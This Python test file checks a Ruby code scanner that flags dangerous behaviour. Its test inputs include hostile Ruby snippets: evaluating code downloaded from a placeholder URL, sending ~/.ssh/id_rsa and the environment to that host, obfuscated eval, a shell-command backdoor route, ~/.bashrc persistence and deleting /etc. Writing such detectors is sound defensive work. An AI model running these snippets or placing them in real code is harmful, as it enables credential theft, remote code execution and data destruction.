import pytest

from posthouse.inspection.facts import Fact, Kind
from posthouse.inspection.reading.ruby import ruby_facts

URL = "https://a.example/x"
BASHRC = "~/.bashrc"


def read(code: str) -> tuple[list[Fact], list[str]]:
    commands: list[str] = []
    return ruby_facts(code, commands.append), commands


@pytest.mark.parametrize(
    "code",
    [
        f'require "open-uri"\neval(URI.open("{URL}").read)',
        f'Thread.new {{ eval Net::HTTP.get(URI("{URL}")) }}',
        f'code = URI("{URL}").read\nObject.class_eval(code)',
        f'eval open("{URL}").read',
    ],
)
def test_follows_a_download_to_where_it_is_run(code: str) -> None:
    assert Fact(Kind.FETCH_RUN, URL, "code") in read(code)[0]


@pytest.mark.parametrize(
    ("code", "command"),
    [
        ('system("id")', "id"),
        ("`id #{'-u'}`", "id -u"),
        ("%x(id)", "id"),
        ('IO.popen("id")', "id"),
        ('Kernel.send(:system, "id")', "id"),
        ('task :a do\n  sh "id"\nend', "id"),
    ],
)
def test_reads_the_commands_that_are_run(code: str, command: str) -> None:
    assert read(code)[1] == [command]


@pytest.mark.parametrize(
    ("code", "fact"),
    [
        (
            f'k = File.read(File.join(Dir.home, ".ssh/id_rsa"))\nNet::HTTP.post(URI("{URL}"), k)',
            Fact(Kind.SEND_SECRET, URL, "~/.ssh/id_rsa"),
        ),
        (
            f'HTTParty.post("{URL}", body: ENV.to_h.to_json)',
            Fact(Kind.SEND_SECRET, URL, "environment"),
        ),
        ('eval(["7072696e74"].pack("H*"))', Fact(Kind.HIDDEN_RUN, "", "code")),
        ('eval Base64.decode64("cHV0cyAx")', Fact(Kind.HIDDEN_RUN, "", "code")),
        ('eval "1 stup".reverse', Fact(Kind.HIDDEN_RUN, "", "code")),
        ('eval "chgf 1".tr("a-z", "n-za-m")', Fact(Kind.HIDDEN_RUN, "", "code")),
        ("get '/' do\n  `#{params[:c]}`\nend", Fact(Kind.BACKDOOR)),
        (
            f'File.open(File.expand_path("{BASHRC}"), "a") {{ |f| f.puts "x" }}',
            Fact(Kind.PERSIST, BASHRC, "shell"),
        ),
        (f'File.write("{BASHRC}", "x")', Fact(Kind.PERSIST, BASHRC, "shell")),
        ('FileUtils.rm_rf("/etc")', Fact(Kind.DESTROY, "/etc")),
    ],
)
def test_tells_what_code_does(code: str, fact: Fact) -> None:
    assert fact in read(code)[0]


@pytest.mark.parametrize(
    "code",
    [
        'CSV.foreach("users.csv") { |r| User.create!(email: r["email"]) }',
        'token = ENV["API_TOKEN"]\nputs ENV.fetch("LANG", "C")',
        'File.open("a.txt", "w") { |f| f << "x" }',
        'text = Base64.decode64("aGk=")\nputs text',
        'params.permit(:name); Article.find(params[:id])',
    ],
)  # fmt: skip
def test_finds_nothing_in_ordinary_code(code: str) -> None:
    assert read(code) == ([], [])


@pytest.mark.parametrize(
    "code", ["eval(" * 20_000, "[" * 30_000 + "eval", "`#{" * 15_000, "x.send(:a)" * 6_000]
)
def test_comes_to_an_end(code: str) -> None:
    read(code)
